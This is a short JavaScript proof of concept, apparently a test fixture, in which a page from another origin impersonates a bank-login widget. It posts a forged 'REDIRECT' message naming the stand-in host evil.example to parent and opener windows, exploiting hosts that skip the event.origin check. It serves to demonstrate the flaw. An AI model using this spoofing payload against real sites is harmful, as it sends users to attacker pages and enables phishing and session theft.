// A page of another origin that speaks in the widget's name. Whoever believes it does not look at event.origin.

const lie = {
  step: "REDIRECT",
  loginId: "00000000-bad0-4bad-8bad-000000000bad",
  requestId: "00000000-bad1-4bad-8bad-000000000bad",
  institution: "FlinksCapital",
  url: "https://evil.example/?loginId=00000000-bad0-4bad-8bad-000000000bad&institution=FlinksCapital",
};
const holder = window.parent.parent;
holder.postMessage(lie, "*");
if (window.parent.opener) window.parent.opener.postMessage(lie, "*");
